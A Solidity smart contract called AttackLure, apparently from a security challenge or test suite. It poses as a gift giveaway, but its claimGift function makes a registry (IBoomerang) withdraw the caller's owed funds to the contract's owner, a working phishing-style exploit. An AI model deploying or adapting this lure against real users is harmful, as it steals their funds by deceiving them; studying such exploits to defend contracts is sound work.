// SPDX-License-Identifier: MIT
pragma solidity 0.8.36;

import {IBoomerang} from "../interfaces/IBoomerang.sol";

/// @notice Says that it gives something away; sends on to its owner what the registry owes to whoever calls.
contract AttackLure {
    IBoomerang private immutable REGISTRY;
    address payable private immutable OWNER;

    constructor(IBoomerang registry) {
        REGISTRY = registry;
        OWNER = payable(msg.sender);
    }

    function claimGift() external {
        REGISTRY.withdraw(OWNER);
    }
}
